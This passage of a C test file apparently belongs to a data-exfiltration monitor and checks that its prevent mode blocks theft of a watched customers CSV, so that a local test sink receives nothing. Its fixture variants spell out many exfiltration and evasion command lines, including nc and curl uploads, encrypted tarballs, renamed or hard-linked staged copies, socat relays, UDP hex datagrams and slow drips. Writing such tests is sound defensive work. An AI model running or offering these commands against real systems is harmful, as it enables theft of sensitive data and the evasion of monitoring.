		TH_LOG("tamper: %s", str(t, "last"));
	}
	json_object_put(st);
	/* and refusing again */
	ASSERT_EQ(0, thief_start(&th, e, -1, connect_step, NULL));
	ASSERT_EQ(0, thief_said(&th));
	EXPECT_EQ(EPERM, thief_step(&th));
	thief_end(&th);
}

/*
 * The catch scenarios of the flow corpus (e2e/test_flow, docs/flow.md),
 * with the tools thieves use, in prevent mode: the test host receives
 * nothing, and the one alert says blocked with 0 bytes left. The corpus
 * runs with read_threshold = 1 byte: any process holding watched data is
 * refused. (What a process may send below a larger threshold is the
 * policy's allowance, not the mechanism's: docs/prevent.md "Limits".)
 *
 * A receiver on the test host that counts whatever comes, on TCP
 * (connections accepted as they come) and UDP, until told to stop.
 */
struct any_sink {
	int stop[2];	/* closed by the test: report and exit */
	int result[2];	/* the byte count */
	pid_t pid;
};

static int any_sink_serve(void *arg)
{
	struct sockaddr_in sin = { .sin_family = AF_INET,
				   .sin_port = htons(PORT) };
	struct any_sink *as = arg;
	struct pollfd p[34];
	int nfds = 3, one = 1, i;
	int64_t total = 0;
	char buf[65536];

	p[0].fd = as->stop[0];
	p[1].fd = socket(AF_INET, SOCK_STREAM, 0);
	p[2].fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (p[1].fd < 0 || p[2].fd < 0 ||
	    setsockopt(p[1].fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) ||
	    bind(p[1].fd, (void *)&sin, sizeof(sin)) || listen(p[1].fd, 32) ||
	    bind(p[2].fd, (void *)&sin, sizeof(sin)))
		return 1;
	close(as->stop[1]);
	if (write(as->result[1], &total, sizeof(total)) != sizeof(total))
		return 1;	/* ready */
	for (;;) {
		for (i = 0; i < nfds; i++)
			p[i].events = POLLIN;
		if (poll(p, nfds, -1) < 0)
			return 1;
		if (p[0].revents)
			break;
		if (p[1].revents & POLLIN && nfds < 34) {
			p[nfds].fd = accept(p[1].fd, NULL, NULL);
			if (p[nfds].fd >= 0)
				nfds++;
		}
		for (i = 2; i < nfds; i++) {
			ssize_t n;

			if (!p[i].revents)
				continue;
			n = recv(p[i].fd, buf, sizeof(buf), MSG_DONTWAIT);
			if (n > 0) {
				total += n;
			} else if (i > 2 && (n == 0 || errno != EAGAIN)) {
				/* ended, or reset: forget it */
				close(p[i].fd);
				p[i--] = p[--nfds];
			}
		}
	}
	return write(as->result[1], &total, sizeof(total)) != sizeof(total);
}

static int any_sink_start(struct testhost *th, struct any_sink *as)
{
	int64_t ready;

	/*
	 * Not inherited across exec: a daemon restarted meanwhile, or an
	 * agent a tool leaves behind (gpg's), would hold the stop pipe open
	 * and the sink would never hear it close.
	 */
	if (pipe2(as->stop, O_CLOEXEC) || pipe2(as->result, O_CLOEXEC))
		return -1;
	as->pid = testhost_spawn(th, any_sink_serve, as);
	close(as->result[1]);
	close(as->stop[0]);
	if (as->pid < 0 ||
	    read(as->result[0], &ready, sizeof(ready)) != sizeof(ready))
		return -1;
	return 0;
}

/* What arrived in all, once what was in flight has had 1 s to land. */
static int64_t any_sink_stop(struct any_sink *as)
{
	int64_t total = -1;

	sleep(1);
	close(as->stop[1]);
	if (read(as->result[0], &total, sizeof(total)) != sizeof(total))
		total = -1;
	close(as->result[0]);
	waitpid(as->pid, NULL, 0);
	return total;
}

/*
 * Once the store holds the derived mark of path, restart the daemon as
 * systemd would (an orderly stop empties the sensor's tables): 0 or -1.
 */
static int restart_when_stored(struct world *e, const char *path)
{
	char sql[256];
	const char *const args[] = { "query", sql, NULL };
	int i, stored = 0;

	snprintf(sql, sizeof(sql),
		 "SELECT count(*) FROM derived WHERE path = '%s' AND "
		 "taint = %ld", path, e->csv_size);
	for (i = 0; i < 100 && !stored; i++) {
		struct json_object *res = ctl_json(e->sock, args), *rows;

		stored = res && json_object_object_get_ex(res, "rows", &rows) &&
			 json_object_array_length(rows) == 1 &&
			 json_object_get_int64(json_object_array_get_idx(
				json_object_array_get_idx(rows, 0), 0)) == 1;
		json_object_put(res);
		if (!stored)
			usleep(100000);
	}
	if (!stored || daemon_stop(e->daemon))
		return -1;
	e->daemon = daemon_start(e->conf, e->sock, e->log);
	return e->daemon > 0 ? 0 : -1;
}

FIXTURE(corpus) {
	struct world e;
};

/*
 * cmd is a format: %1$s the table, %2$s the test host, %3$d the port,
 * %4$s a staging folder, %5$s our helper programs, %6$d a spare number
 * (a loopback port, a file name).
 */
FIXTURE_VARIANT(corpus) {
	const char *tools;
	const char *cmd;
	const char *staged;	/* a file cmd stages: once the store has its
				 * mark, the daemon restarts */
	const char *then;	/* a format like cmd, run after that */
};

#define CURL_TO	"curl -sS -f --noproxy '*' -o /dev/null --data-binary "

FIXTURE_VARIANT_ADD(corpus, cat_piped_into_nc) {
	.tools = "cat nc",
	.cmd = "cat %1$s | nc -N %2$s %3$d",
};

FIXTURE_VARIANT_ADD(corpus, gzip_base64_curl) {
	.tools = "gzip base64 curl",
	.cmd = "gzip -c %1$s | base64 | " CURL_TO "@- http://%2$s:%3$d/",
};

/* the database made from the table is derived data, all of it */
FIXTURE_VARIANT_ADD(corpus, sqlite3_dump_gzip_base64_curl) {
	.tools = "sqlite3 gzip base64 curl",
	.cmd = "sqlite3 %4$s/crm.db '.import --csv %1$s customers' && "
	       "sqlite3 %4$s/crm.db .dump | gzip | base64 | " CURL_TO
	       "@- http://%2$s:%3$d/",
};

FIXTURE_VARIANT_ADD(corpus, tarball_encrypted_with_openssl_uploaded) {
	.tools = "tar gzip openssl curl",
	.cmd = "cd %4$s && tar czf x.tgz -C $(dirname %1$s) customers.csv && "
	       "openssl enc -aes-256-cbc -pbkdf2 -pass pass:hunter2 -in x.tgz "
	       "-out x.enc && " CURL_TO "@x.enc http://%2$s:%3$d/",
};

/*
 * gpg starts an agent even for --symmetric, which forks away from what
 * started it (--no-detach or not): ended by its command line, unique to
 * this test's folder.
 */
FIXTURE_VARIANT_ADD(corpus, tarball_encrypted_with_gpg_uploaded) {
	.tools = "tar gzip gpg gpg-agent curl pkill",
	.cmd = "mkdir -m 700 %4$s/g && cd %4$s && "
	       "tar czf x.tgz -C $(dirname %1$s) customers.csv && "
	       "gpg --homedir %4$s/g --batch --yes --quiet "
	       "--pinentry-mode loopback --passphrase hunter2 --symmetric "
	       "-o x.gpg x.tgz && " CURL_TO "@x.gpg http://%2$s:%3$d/; "
	       "pkill -f 'gpg-agent --homedir %4$s/g'",
};

FIXTURE_VARIANT_ADD(corpus, copy_uploaded_from_another_session) {
	.tools = "cp setsid curl",
	.cmd = "cp %1$s %4$s/notes.txt && sleep 1 && setsid -w " CURL_TO
	       "@%4$s/notes.txt http://%2$s:%3$d/",
};

FIXTURE_VARIANT_ADD(corpus, staged_copy_moved_then_uploaded) {
	.tools = "cp mv curl",
	.cmd = "cp %1$s %4$s/n.txt && mv %4$s/n.txt %4$s/holiday.jpg && "
	       CURL_TO "@%4$s/holiday.jpg http://%2$s:%3$d/",
};

/* the new daemon knows the staged copy from the store only */
FIXTURE_VARIANT_ADD(corpus, copy_staged_before_a_daemon_restart) {
	.tools = "cp curl",
	.cmd = "cp %1$s %4$s/notes.txt",
	.staged = "notes.txt",
	.then = CURL_TO "@%4$s/notes.txt http://%2$s:%3$d/",
};

FIXTURE_VARIANT_ADD(corpus, staged_copy_hard_linked_then_uploaded) {
	.tools = "cp ln rm curl",
	.cmd = "cp %1$s %4$s/notes.txt && ln %4$s/notes.txt %4$s/l.txt && "
	       "rm %4$s/notes.txt && " CURL_TO "@%4$s/l.txt http://%2$s:%3$d/",
};

FIXTURE_VARIANT_ADD(corpus, split_chunks_uploaded_by_separate_processes) {
	.tools = "cp split nc",
	.cmd = "cp %1$s %4$s/db.bak && cd %4$s && split -b 256k db.bak part. "
	       "&& for f in part.*; do nc -N %2$s %3$d < $f; done",
};

/*
 * bash reads the table itself (the read builtin), forks and exits; the
 * child waits until it is adopted, then sends what it inherited. The fifo
 * holds our shell until the child is done.
 */
FIXTURE_VARIANT_ADD(corpus, child_sending_after_its_reading_parent_exited) {
	.tools = "bash mkfifo nc",
	.cmd = "mkfifo %4$s/done && bash -c 'IFS= read -r -d \"\" d < %1$s; "
	       "( while kill -0 $$ 2>/dev/null; do sleep 0.05; done; "
	       "printf %%s \"$d\" | nc -N %2$s %3$d; echo > %4$s/done ) & "
	       "exit 0' && read x < %4$s/done",
};

FIXTURE_VARIANT_ADD(corpus, relay_behind_a_unix_socket) {
	.tools = "socat nc",
	.cmd = "socat -u -T 10 UNIX-LISTEN:%4$s/r.sock TCP:%2$s:%3$d & "
	       "for i in $(seq 100); do [ -S %4$s/r.sock ] && break; "
	       "sleep 0.1; done; nc -N -U %4$s/r.sock < %1$s; wait",
};

FIXTURE_VARIANT_ADD(corpus, socat_forwarding_from_loopback_tcp) {
	.tools = "socat nc",
	.cmd = "socat -u -T 10 TCP-LISTEN:%6$d,bind=127.0.0.1,reuseaddr "
	       "TCP:%2$s:%3$d & p=$(printf %%04X %6$d); for i in $(seq 100); "
	       "do grep -q \"0100007F:$p 00000000:0000 0A\" /proc/net/tcp && "
	       "break; sleep 0.1; done; nc -N 127.0.0.1 %6$d < %1$s; wait",
};

FIXTURE_VARIANT_ADD(corpus, written_into_dev_shm_then_mapped_and_sent) {
	.tools = "cat",
	.cmd = "cat %1$s > /dev/shm/exfilmon-prevent-%6$d && %5$s/shm_map "
	       "send /dev/shm/exfilmon-prevent-%6$d %2$s %3$d; "
	       "rm -f /dev/shm/exfilmon-prevent-%6$d",
};

FIXTURE_VARIANT_ADD(corpus, mapped_into_dev_shm_then_mapped_and_sent) {
	.tools = "",
	.cmd = "%5$s/shm_map fill %1$s /dev/shm/exfilmon-prevent-%6$d && "
	       "%5$s/shm_map send /dev/shm/exfilmon-prevent-%6$d %2$s %3$d; "
	       "rm -f /dev/shm/exfilmon-prevent-%6$d",
};

FIXTURE_VARIANT_ADD(corpus, io_uring_read_and_send) {
	.tools = "",
	.cmd = "%5$s/uring_exfil %1$s %2$s %3$d; [ $? != 77 ] || "
	       "touch %4$s/no-uring",
};

FIXTURE_VARIANT_ADD(corpus, hex_lines_as_udp_datagrams) {
	.tools = "xxd bash",
	.cmd = "bash -c 'xxd -p -l 16384 %1$s | while read -r l; do "
	       "echo \"$l\" > /dev/udp/%2$s/%3$d; done'",
};

/* low and slow: 16 KiB at a time, each by a fresh dd | nc */
FIXTURE_VARIANT_ADD(corpus, drip_over_many_connections) {
	.tools = "dd nc",
	.cmd = "for i in 0 1 2 3 4 5 6 7; do dd if=%1$s bs=16k skip=$i "
	       "count=1 status=none | nc -N %2$s %3$d; sleep 0.2; done",
};

FIXTURE_SETUP(corpus)
{
	memset(&self->e, 0, sizeof(self->e));
	self->e.threshold = 1;
}

FIXTURE_TEARDOWN(corpus)
{
	world_down(&self->e);
}

TEST_F_TIMEOUT(corpus, refused_and_nothing_arrives, TIMEOUT_S)
{
	struct world *e = &self->e;
	char stage[128], helpers[512], cmd[2048], marker[160];
	struct any_sink as;

	if (run("for t in %s; do command -v $t >/dev/null || exit 1; done",
		variant->tools))
		SKIP(return, "a tool of \"%s\" is not installed here "
		     "(scripts/deps.sh installs them)", variant->tools);
	WORLD_UP("prevent", "10.0.0.0/8");
	snprintf(stage, sizeof(stage), "%s/stage", e->dir);
	ASSERT_EQ(0, mkdir(stage, 0755));
	snprintf(helpers, sizeof(helpers), "%s/tests/helpers", build_dir());
	ASSERT_EQ(0, any_sink_start(&e->th, &as));
	snprintf(cmd, sizeof(cmd), variant->cmd, e->csv, e->th.remote4, PORT,
		 stage, helpers, 20000 + getpid() % 20000);
	/* the thief's tools fail, as they should: their status is theirs */
	if (system(cmd) < 0)
		TH_LOG("failed to run %s", cmd);
	if (variant->then) {
		snprintf(marker, sizeof(marker), "%s/%s", stage,
			 variant->staged);
		ASSERT_EQ(0, restart_when_stored(e, marker));
		snprintf(cmd, sizeof(cmd), variant->then, e->csv,
			 e->th.remote4, PORT, stage, helpers,
			 20000 + getpid() % 20000);
		if (system(cmd) < 0)
			TH_LOG("failed to run %s", cmd);
	}
	EXPECT_EQ(0, any_sink_stop(&as));
	snprintf(marker, sizeof(marker), "%s/no-uring", stage);
	if (!access(marker, F_OK))
		SKIP(return, "io_uring is not available here");
	expect_blocked(_metadata, e, e->th.remote4, 1, 0);
}

TEST_HARNESS_MAIN
